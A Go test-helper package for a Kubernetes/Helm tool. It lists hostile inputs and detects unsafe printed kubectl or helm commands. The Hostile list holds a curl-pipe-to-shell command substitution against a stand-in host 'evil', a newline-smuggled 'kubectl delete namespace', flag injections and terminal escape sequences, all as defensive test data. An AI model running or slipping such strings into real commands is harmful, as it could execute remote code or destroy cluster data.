// Package commandtest has names that are dangerous in commands and on terminals.
package commandtest

import (
	"regexp"
	"slices"
	"strings"
)

// Hostile returns texts that others may choose, and that are not DNS names.
func Hostile() []string {
	return []string{
		"$(curl -s evil|sh)", "`id`", "a;b&c|d>e", "a b", `a"b`, "a'b", `a\b`, "$HOME", "*", "~", "#a", "{a,b}", "-oyaml",
		"--kubeconfig=a", "../a", "", "a\nkubectl delete namespace a", "kubectl delete namespace a",
		"a\r\n\x1b[2J\x1b]0;a\x07\u009b2J\t\x00\x7f\u202eb\u2066\u2069\u2028\U000e0061\xff",
		strings.Repeat("a", 10<<10), strings.Repeat("$(a)", 3<<10),
	}
}

// patch is the only argument of printed commands that a shell needs quotes for.
var patch = regexp.MustCompile(`--patch='\{"spec":\{"service":` +
	`\{"namespace":"[\w.-]+","name":"[\w.-]+","port":\d+\}\}\}'`)

// plain has no character that is special to a shell.
var plain = regexp.MustCompile(`^[a-zA-Z0-9 ./:=,_-]*$`)

// Unsafe returns the commands in a text, each on a line of its own, that have a character that is
// special to a shell, or a flag or command of the Hostile texts.
func Unsafe(text string) (commands []string) {
	isFlag := func(word string) bool {
		return strings.HasPrefix(word, "-oyaml") || strings.HasPrefix(word, "--kubeconfig")
	}
	for line := range strings.Lines(text) {
		line = strings.TrimSuffix(line, "\n")
		rest := patch.ReplaceAllString(line, "")
		switch {
		case !strings.HasPrefix(line, "kubectl ") && !strings.HasPrefix(line, "helm "):
		case strings.HasPrefix(line, "kubectl delete namespace"), !plain.MatchString(rest),
			slices.ContainsFunc(strings.Fields(rest), isFlag):
			commands = append(commands, line)
		}
	}
	return commands
}
